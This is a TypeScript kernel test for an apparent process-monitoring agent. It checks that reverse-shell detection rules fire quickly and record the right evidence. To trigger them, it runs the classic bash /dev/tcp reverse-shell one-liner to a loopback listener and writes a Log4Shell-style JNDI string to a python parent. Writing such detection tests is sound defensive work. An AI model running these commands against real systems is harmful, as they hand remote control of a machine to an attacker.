import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { after, describe, test } from 'node:test';
import { exitOf, kernelSkipReason, waitFor } from '@proctrail/bpf/testing';
import type { Detection } from '@proctrail/schema';
import pino from 'pino';
import { Agent } from '../pipeline/agent';
import { SqliteStore } from '../store/sqlite/sqlite-store';
import { scratchDir } from '../testing/harness';
import { DetectionBus } from './detection-bus';
import { liveDetections } from './live-detections';

const skip = kernelSkipReason();
if (skip) console.log(`# detections.kernel.test.ts skipped: ${skip}`);
const logger = pino({ level: 'warn' });
const scratch = scratchDir();
after(() => scratch.remove());

/** The attacker's side of a reverse shell, on loopback: takes one connection, types `exit`. */
async function loopbackCatcher(): Promise<{
  port: number;
  connected: () => boolean;
  close: () => void;
}> {
  let client: Socket | undefined;
  const server = createServer((socket) => {
    client = socket;
    socket.on('error', () => {});
    setTimeout(() => socket.end('exit\n'), 300);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    connected: () => client !== undefined,
    close: () => {
      client?.destroy();
      server.close();
    },
  };
}

/**
 * A server-like python3 parent that, on its first line of input (the "exploit"), spawns the
 * classic reverse shell and waits for it.
 */
const SERVER = `
import subprocess, sys
sys.stdin.readline()
subprocess.run(['bash', '-c', sys.argv[1]])
`;

/** The interpreter itself, not a version manager's shim script in front of it. */
function pythonBinary(): string {
  return execFileSync('python3', ['-c', 'import sys; print(sys.executable)'], {
    encoding: 'utf8',
    timeout: 10_000,
  }).trim();
}

describe('detections on the real kernel', { skip }, () => {
  test('a reverse shell spawned by a python server fires reverse-shell and shell-under-server-runtime within a second', async () => {
    const store = SqliteStore.open(scratch.db('live.db'));
    const bus = new DetectionBus();
    const seen: Detection[] = [];
    const live = liveDetections({ store, logger, bus });
    const listener = bus.subscribe();
    void (async () => {
      for await (const detection of listener) seen.push(detection);
    })();
    const agent = await Agent.start({
      store,
      logger,
      nodeName: 'kernel-detect',
      rules: live,
    });
    const catcher = await loopbackCatcher();
    try {
      const command = `bash -i >& /dev/tcp/127.0.0.1/${catcher.port} 0>&1`;
      const server = spawn(pythonBinary(), ['-c', SERVER, command], {
        stdio: ['pipe', 'ignore', 'ignore'],
        timeout: 10_000,
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      // Other processes on the host (node spawning shells) fire rules too: keep those under
      // the python server.
      const ours = () => seen.filter((d) => d.ancestors.some((a) => a.pid === server.pid));
      const exploitedAt = Date.now();
      server.stdin!.write('GET /${jndi:ldap://x}\n');
      await waitFor(() => catcher.connected(), 'the reverse shell connection');
      await waitFor(
        () =>
          ['reverse-shell', 'shell-under-server-runtime'].every((r) =>
            seen.some((d) => d.rule === r),
          ),
        'both detections',
      );
      const latencyMs = Date.now() - exploitedAt;
      assert.ok(latencyMs < 1000, `detections took ${latencyMs} ms`);
      assert.equal(await exitOf(server), 0);

      const reverse = ours().find((d) => d.rule === 'reverse-shell')!;
      assert.equal(reverse.binary, '/usr/bin/bash');
      assert.match(reverse.explanation, new RegExp(`fd 0 -> 127\\.0\\.0\\.1:${catcher.port}`));
      assert.ok(reverse.ancestors.some((a) => /python3/.test(a.binary ?? '')));
      assert.equal(reverse.severity, 'critical');

      const underServer = ours().find(
        (d) => d.rule === 'shell-under-server-runtime' && d.ancestors[0]!.pid === server.pid,
      )!;
      assert.match(
        underServer.explanation,
        new RegExp(`started by python3[.\\d]* \\(pid ${server.pid}\\)`),
      );
      const stored = await store.detections({ execId: reverse.execId, limit: 10 });
      assert.ok(stored.some((d) => d.rule === 'reverse-shell'));
      assert.equal(stored.find((d) => d.rule === 'reverse-shell')!.evidenceEventIds.length, 1);
    } finally {
      catcher.close();
      await agent.stop();
      bus.close();
      await store.close();
    }
  });
});
